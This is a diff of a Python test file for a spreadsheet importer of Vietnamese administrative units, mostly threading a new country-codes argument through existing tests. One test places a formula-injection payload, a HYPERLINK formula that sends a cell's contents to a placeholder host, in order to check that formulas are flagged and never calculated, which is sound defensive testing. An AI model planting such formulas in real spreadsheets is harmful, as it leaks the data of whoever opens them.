@@ -15,7 +15,7 @@ from quetsach.campaign.errors import UnitsError
 from quetsach.campaign.units.cells import write_csv
 from quetsach.campaign.units.table import UNIT_COLUMNS, contact_rows, read_tables, unit_rows
 from quetsach.core.table import guarded
-from quetsach.installation import bundled
+from quetsach.installation import bundled, bundled_country
 from quetsach.web.office.log.models import LogEntry
 from quetsach.web.office.refusal import AccessError
 from quetsach.web.office.tree.models import Contact, ImportDraft, Position, Succession, Unit
@@ -32,6 +32,7 @@ from quetsach.web.office.units.services.importing import (
 )
 from quetsach.web.office.units.spreadsheet import read_xlsx, stream_xlsx, write_xlsx
 
+CODES = bundled_country().unit_codes
 NEW = ("305-2020", "305", "Quận Lê Chân", "Le Chan District", "district", "31-2020", "2020-01-01", "2025-07-01", "")
 
 
@@ -240,13 +241,13 @@ def test_numbers_and_days_of_a_spreadsheet_are_read_as_written() -> None:
     opened = datetime(2020, 1, 1)  # noqa: DTZ001  (spreadsheets know no zone)
     row = ["305-2020", 305, "Quận Lê Chân", None, "district", "31-2020", opened, date(2025, 7, 1), 1.0]
     [sheet] = read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x")
-    unit = read_tables([sheet]).units["305-2020"]
+    unit = read_tables([sheet], CODES).units["305-2020"]
     assert (unit.code, unit.opened, unit.closed, unit.decree) == ("305", date(2020, 1, 1), date(2025, 7, 1), "1")
 
 
 def test_a_code_that_lost_its_zero_in_a_spreadsheet_is_told() -> None:
     row = ["01-2020", 1, "Hà Nội", None, "province", "tw", "2020-01-01", None, None]
-    tables = read_tables(read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x"))
+    tables = read_tables(read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x"), CODES)
     assert [(fault.row, fault.column) for fault in tables.faults] == [(2, "code")]
 
 
@@ -254,12 +255,12 @@ def test_a_code_that_lost_its_zero_in_a_spreadsheet_is_told() -> None:
 def test_a_formula_is_told_and_never_calculated(column: int) -> None:
     row = list(NEW)
     row[column] = '=HYPERLINK("http://x.example/?"&A1,"x")'
-    tables = read_tables(read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x"))
+    tables = read_tables(read_xlsx(_xlsx(units=[list(UNIT_COLUMNS), row]), name="x"), CODES)
     assert ("a formula" in tables.faults[0].what.en, tables.faults[0].column) == (True, UNIT_COLUMNS[column])
 
 
 def test_faults_of_a_workbook_name_sheet_row_and_column() -> None:
-    tables = read_tables(read_xlsx(_xlsx(rubbish=[], units=[list(UNIT_COLUMNS), [], ["x y"]]), name="f.xlsx"))
+    tables = read_tables(read_xlsx(_xlsx(rubbish=[], units=[list(UNIT_COLUMNS), [], ["x y"]]), name="f.xlsx"), CODES)
     assert ("f.xlsx: units", 3, "key") in [(fault.sheet, fault.row, fault.column) for fault in tables.faults]
 
 
@@ -326,13 +327,13 @@ def test_a_damaged_workbook_is_read_or_refused_and_nothing_else(data: st.DataObj
     cut = data.draw(st.integers(0, len(content)))
     for damaged in (bytes(content), bytes(content[:cut])):
         try:
-            read_tables(read_xlsx(damaged, name="x"))
+            read_tables(read_xlsx(damaged, name="x"), CODES)
         except UnitsError as refused:
             assert refused.text.vi
 
 
 def test_every_unit_is_stored_as_its_record(units) -> None:
-    tables = read_tables([*read_xlsx(write_xlsx({"units": unit_rows(unit_records().values())}), name="x")])
+    tables = read_tables([*read_xlsx(write_xlsx({"units": unit_rows(unit_records().values())}), name="x")], CODES)
     assert tables.units == unit_records()
 
 
